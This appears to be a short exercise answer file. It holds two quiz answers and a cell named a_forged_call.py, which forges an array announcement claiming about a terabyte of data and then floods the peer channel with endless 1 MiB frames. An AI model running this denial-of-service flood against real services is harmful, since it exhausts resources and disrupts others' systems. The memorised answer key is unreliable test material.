# %%
q02_answer = "c"

# %%< a_forged_call.py

# %%
import struct

channel.send({"type": "order", "number": 1, "description": described()})
(wanted, *_) = channel.receive()["arrays"]
channel.send({"type": "array", "sha256": wanted, "dtype": "<f4", "shape": [2**38]})
while True:
    channel.send_frames(memoryview(struct.pack(">I", 2**31 | 2**20) + bytes(2**20)))

# %%
q09_answer = "d"
